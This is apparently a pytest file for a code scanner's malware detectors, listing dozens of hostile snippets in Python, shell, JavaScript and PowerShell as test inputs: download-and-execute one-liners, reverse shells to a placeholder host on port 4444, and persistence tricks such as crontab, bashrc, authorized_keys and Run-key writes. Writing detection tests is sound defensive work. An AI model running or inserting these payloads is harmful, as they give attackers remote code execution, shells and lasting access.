"""The usual ways to run what is downloaded, to hand out a shell and to begin again, each as it is written in public."""
# ruff: noqa: E501 (a program reads best in one line)

import pytest

from pilothouse.shield import scan_text

HEADS = {"py": "import os\n", "sh": "#!/bin/bash\n", "js": "const fs = require('fs');\n", "ps": ""}
DEEDS = {
    ("download_execute", "py"): {
        "exec requests": "import requests\nexec(requests.get('https://x.example.net/p.py').text)",
        "exec urlopen": "from urllib.request import urlopen\nexec(urlopen('https://x.example.net/p.py').read())",
        "exec httpx": "import httpx\nexec(httpx.get('https://x.example.net/p.py').text)",
        "compile": "import requests\ncode = compile(requests.get('https://x.example.net/p').text, 'p', 'exec')\nexec(code)",
        "file run": "import requests, subprocess\nopen('/tmp/p.sh','wb').write(requests.get('https://x.example.net/p').content)\nsubprocess.run(['bash','/tmp/p.sh'])",
        "file with": "import requests, subprocess\nr = requests.get('https://x.example.net/p')\nwith open('/tmp/p','wb') as f:\n    f.write(r.content)\nos.chmod('/tmp/p', 0o755)\nsubprocess.Popen('/tmp/p')",
        "urlretrieve": "import urllib.request\nurllib.request.urlretrieve('https://x.example.net/p', '/tmp/p')\nos.system('sh /tmp/p')",
        "curl pipe": "os.system('curl -s https://x.example.net/p | sh')",
        "subprocess pipe": "import subprocess\nsubprocess.run('wget -qO- https://x.example.net/p | bash', shell=True)",
        "bash -c": "import subprocess\nsubprocess.run(['bash','-c','curl https://x.example.net/p | bash'])",
        "pip url": "import subprocess, sys\nsubprocess.check_call([sys.executable,'-m','pip','install','http://203.0.113.9/evil.tar.gz'])",
        "pickle": "import pickle, requests\npickle.loads(requests.get('https://x.example.net/p').content)",
        "marshal": "import marshal, requests\nexec(marshal.loads(requests.get('https://x.example.net/p').content))",
    },
    ("download_execute", "sh"): {
        "curl|sh": "curl -fsSL https://x.example.net/p | sh",
        "curl|sudo bash": "curl -s http://203.0.113.9/p | sudo bash",
        "wget|sh": "wget -qO- https://x.example.net/p | sh",
        "bash <(": "bash <(curl -s https://x.example.net/p)",
        "eval": 'eval "$(curl -s https://x.example.net/p)"',
        "file": "curl -o /tmp/p https://x.example.net/p && chmod +x /tmp/p && /tmp/p",
        "wget file": "wget http://203.0.113.9/p -O /tmp/.p; sh /tmp/.p",
        "python pipe": "curl -s https://x.example.net/p | python3",
        "source": "source <(curl -s https://x.example.net/p)",
        "npx": "npx -y http://203.0.113.9/p.tgz",
    },
    ("download_execute", "js"): {
        "eval fetch": "fetch('https://x.example.net/p').then(r => r.text()).then(t => eval(t));",
        "eval axios": "const axios = require('axios');\naxios.get('https://x.example.net/p').then(r => eval(r.data));",
        "new Function": "const t = await (await fetch('https://x.example.net/p')).text();\nnew Function(t)();",
        "exec curl": "require('child_process').exec('curl -s https://x.example.net/p | sh');",
        "execSync": "const cp = require('child_process');\ncp.execSync('wget -qO- http://203.0.113.9/p | bash');",
        "https get": "const https = require('https');\nhttps.get('https://x.example.net/p', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });",
        "write spawn": "const cp = require('child_process');\nfetch('https://x.example.net/p').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/p', Buffer.from(b)); cp.spawn('/tmp/p'); });",
    },
    ("download_execute", "ps"): {
        "iex iwr": "iex (iwr https://x.example.net/p.ps1 -UseBasicParsing).Content",
        "iex webclient": "IEX (New-Object Net.WebClient).DownloadString('https://x.example.net/p.ps1')",
        "irm|iex": "irm https://x.example.net/p.ps1 | iex",
        "start": "Invoke-WebRequest -Uri https://x.example.net/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe",
    },
    ("reverse_shell", "py"): {
        "classic": "import socket,subprocess\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])",
        "pty": "import socket,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')",
        "loop": "import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\nwhile True:\n    c=s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())",
        "loop2": "import socket,subprocess\ns=socket.create_connection(('203.0.113.9',4444))\nwhile True:\n    cmd=s.recv(4096)\n    out=subprocess.run(cmd,shell=True,capture_output=True).stdout\n    s.sendall(out)",
        "os.system": "os.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')",
    },
    ("reverse_shell", "sh"): {
        "bash": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "nc -e": "nc -e /bin/sh 203.0.113.9 4444",
        "mkfifo": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "perl": 'perl -e \'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
        "python": 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
        "socat": "socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
        "exec": "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "ncat": "ncat 203.0.113.9 4444 -e /bin/bash",
        "ruby": 'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
        "php": 'php -r \'$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    },
    ("reverse_shell", "js"): {
        "net": "const net=require('net'),cp=require('child_process');\nconst sh=cp.spawn('/bin/sh',[]);\nconst c=new net.Socket();\nc.connect(4444,'203.0.113.9',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});",
        "net2": "const net=require('net');const {exec}=require('child_process');\nconst c=net.connect(4444,'203.0.113.9');\nc.on('data',d=>exec(d.toString(),(e,o)=>c.write(o)));",
    },
    ("reverse_shell", "ps"): {
        "tcp": "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$x=[text.encoding]::ASCII.GetBytes($o);$s.Write($x,0,$x.Length)}",
    },
    ("persistence", "py"): {
        "bashrc": "open(os.path.expanduser('~/.bashrc'),'a').write('curl http://203.0.113.9/p|sh\\n')",
        "cron": "import subprocess\nsubprocess.run('(crontab -l; echo \"* * * * * /tmp/p\") | crontab -', shell=True)",
        "systemd": "from pathlib import Path\nPath('~/.config/systemd/user/x.service').expanduser().write_text('[Service]\\nExecStart=/tmp/p')",
        "launch": "p = os.path.expanduser('~/Library/LaunchAgents/com.x.plist')\nwith open(p,'w') as f:\n    f.write('<plist>')",
        "reg": "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'C:\\\\p.exe')",
        "keys": "with open(os.path.expanduser('~/.ssh/authorized_keys'),'a') as f:\n    f.write('ssh-ed25519 AAAA attacker')",
        "zshrc": "from pathlib import Path\nwith (Path.home() / '.zshrc').open('a') as f:\n    f.write('x')",
        "githook": "open('.git/hooks/pre-commit','w').write('#!/bin/sh\\ncurl http://203.0.113.9')",
    },
    ("persistence", "sh"): {
        "cron": "(crontab -l 2>/dev/null; echo '* * * * * /tmp/p') | crontab -",
        "bashrc": "echo 'curl http://203.0.113.9/p | sh' >> ~/.bashrc",
        "keys": "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
        "cron.d": "echo '* * * * * root /tmp/p' > /etc/cron.d/x",
        "profile": "echo /tmp/p >> ~/.profile",
        "profile here": "cd; echo /tmp/p >> .profile",
        "launchctl": "cp x.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/x.plist",
        "githook": "cp p .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
    },
    ("persistence", "js"): {
        "bashrc": "fs.appendFileSync(require('os').homedir() + '/.bashrc', '/tmp/p\\n');",
        "cron": "require('child_process').exec('(crontab -l; echo \"* * * * * /tmp/p\") | crontab -');",
        "keys": "fs.appendFileSync(`${process.env.HOME}/.ssh/authorized_keys`, 'ssh-ed25519 AAAA x');",
        "launch": "fs.writeFileSync(require('path').join(require('os').homedir(), 'Library/LaunchAgents/x.plist'), '<plist/>');",
    },
    ("persistence", "ps"): {
        "run": "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value C:\\p.exe",
        "schtasks": "schtasks /create /tn x /tr C:\\p.exe /sc minute",
        "task": "Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute C:\\p.exe)",
    },
}


@pytest.mark.parametrize(("deed", "language"), DEEDS)
def test_is_seen(deed: str, language: str) -> None:
    unseen = {
        name
        for name, program in DEEDS[deed, language].items()
        if f"malware_{deed}" not in found(f"{HEADS[language]}{program}\n")
    }
    assert not unseen


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/bash\npip install --index-url http://10.0.0.5:8080/simple our-package\n",
        "#!/bin/bash\nnpm install http://192.168.1.4:4873/ours.tgz\n",
        "const net = require('net');\nconst c = net.connect(5432, 'db');\nc.on('data', d => seen.push(d));\n",
        "const fs = require('fs');\nfs.writeFileSync('build/profile.json', '{}');\n",
        "const { spawn } = require('child_process');\nconst sh = spawn('sh', ['-c', 'make']);\nprocess.stdin.pipe(sh.stdin);\n",
    ],
)
def test_is_not_what_an_honest_program_does(text: str) -> None:
    assert not {name for name in found(text) if name.startswith("malware_")}


def found(text: str) -> set[str]:
    return {each.detector for each in scan_text(text, kind="code").findings}
